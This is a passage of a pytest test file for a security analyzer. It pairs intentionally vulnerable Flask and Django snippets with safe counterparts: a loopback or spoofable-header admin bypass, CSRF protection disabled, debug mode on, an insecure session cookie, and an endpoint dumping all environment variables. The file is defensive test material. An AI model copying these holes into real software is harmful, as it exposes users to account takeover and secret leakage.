        "a debug mode that is always on", "debug", "app = Flask(__name__)\napp.debug = True\n", "app = Flask(__name__)\napp.debug = False\n"
    ),
    Twins(
        "loopback that needs no login",
        "address-identity",
        "def is_admin(request):\n    if request.remote_addr == '127.0.0.1':\n        return True\n    return request.user.is_admin\n",
        """
        def is_admin(request):
            if request.remote_addr in BLOCKED:
                return False
            log(request.remote_addr)
            return request.user.is_admin
        """,
    ),
    Twins(
        "an address from a header that anybody writes",
        "address-identity",
        """
        def view(request):
            ip = request.headers.get('X-Forwarded-For')
            if ip != '10.0.0.1':
                abort(403)
            return page()
        """,
        """
        def view(request):
            ip = request.headers.get('X-Forwarded-For')
            if ip != last_seen:
                tell(ip)
            return page()
        """,
    ),
    Twins(
        "a header that says who one is",
        "address-identity",
        "def view(request):\n    if request.headers.get('X-Internal-User'):\n        return everything()\n    return page()\n",
        "def view(request):\n    if request.headers.get('X-Requested-With'):\n        return fragment()\n    return page()\n",
    ),
    Twins(
        "a form without its token for users of a session",
        "csrf-exempt",
        "@csrf_exempt\n@login_required\ndef pay(request):\n    return done()\n",
        "@login_required\ndef pay(request):\n    return done()\n",
    ),
    Twins(
        "a class without its form's token for users of a session",
        "csrf-exempt",
        "@method_decorator(csrf_exempt, name='dispatch')\nclass Pay(LoginRequiredMixin, View):\n    def post(self, request): ...\n",
        "@method_decorator(never_cache, name='dispatch')\nclass Pay(LoginRequiredMixin, View):\n    def post(self, request): ...\n",
    ),
    Twins(
        "a webhook without a form's token",
        "csrf-exempt",
        "@csrf_exempt\ndef hook(request):\n    return done()\n",
        "@require_POST\ndef hook(request):\n    return done()\n",
        "weak",
    ),
    Twins(
        "a cookie that is sent in clear",
        "cookie-flags",
        "app.config['SESSION_COOKIE_SECURE'] = False\n",
        "app.config['SESSION_COOKIE_SECURE'] = True\n",
    ),
    Twins(
        "forms without tokens",
        "csrf-exempt",
        "class Config:\n    WTF_CSRF_ENABLED = False\n",
        "class Config:\n    WTF_CSRF_ENABLED = True\n",
    ),
    Twins(
        "forms without tokens by the module's own settings",
        "csrf-exempt",
        "WTF_CSRF_ENABLED = False\n",
        "app.config.update(WTF_CSRF_ENABLED=False, TESTING=True)\n",
    ),
    Twins(
        "forms without tokens in tests",
        "csrf-exempt",
        "class TestingConfig:\n    WTF_CSRF_ENABLED = False\n",
        "class TestingConfig:\n    TESTING = True\n",
        "weak",
    ),
)


@pytest.mark.parametrize("twins", TWINS, ids=[twins.name for twins in TWINS])
def test_tells_the_bad_twin_and_leaves_the_safe_one_alone(looked, twins):
    """What is wrong is told once, with its strength; what does the same rightly is not."""
    assert [flow.strength.value for flow in looked(dedent(twins.bad), twins.kind)] == [twins.strength]
    assert not looked(dedent(twins.safe), twins.kind)


def test_tells_the_whole_environment_in_an_answer(looked):
    """Against a page for finding faults that shows every key; one variable of it, and a function that answers nobody, are none."""
    text = "import os\ndef facts():\n    return jsonify(dict(os.environ))\n"
    handler = Handler(function="app.facts", path="/facts", methods=("GET",), framework="flask", file="app.py", line=2)
    assert [flow.strength.value for flow in looked(text, "debug", (handler,))] == ["strong"]
    assert not looked(text, "debug")
    assert not looked(
        text.replace("dict(os.environ)", "region=os.environ['REGION'], size=len(os.environ.get('PATH'))"), "debug", (handler,)
    )
    for part in ("len(os.environ)", "without_secrets(os.environ)"):
        assert not looked(text.replace("dict(os.environ)", part), "debug", (handler,))


@pytest.mark.parametrize("twins", TWINS, ids=[twins.name for twins in TWINS])
def test_tests_are_not_looked_at(looked, twins):
    """Nothing of a test answers a request."""
    assert not looked({"tests/test_app.py": dedent(twins.bad)}, twins.kind)


def test_a_role_that_an_administrator_gives_another_is_no_claim(looked):
    """A role out of a list is kept for a user behind a rule for administrators; without the rule, or kept for nobody, it is a claim."""
    text = """
    def role(user_id):
        user = db.get_or_404(User, user_id)
        if request.form.get("role") not in ("member", "admin"):
            abort(400)
        user.role = request.form["role"]
    """

    def told(rules, code=text):
        handler = Handler(function="app.role", path="/<int:user_id>/role", methods=("POST",), framework="flask", file="app.py", line=2)
        return [flow.strength.value for flow in looked(dedent(code), "address-identity", (replace(handler, authenticated_by=rules),))]

    assert told(("admin_required",)) == []
    assert told(()) == told(("login_required",)) == ["strong"]
    assert told(("admin_required",), text.replace("user.role = request", "shown = request")) == ["strong"]
    assert told(("admin_required",), text.replace('not in ("member", "admin")', '!= "admin"')) == ["strong"]


def test_what_is_told_names_its_place(looked):
    """A finding without a line is no finding."""
    (flow,) = looked({"shop/doors.py": "class Door:\n    def open(self, user):\n        assert user.is_admin\n"}, "assert-guard")
    assert (flow.place.file, flow.place.line, flow.place.column) == ("shop/doors.py", 3, 8)
    assert flow.function == "shop.doors.Door.open"
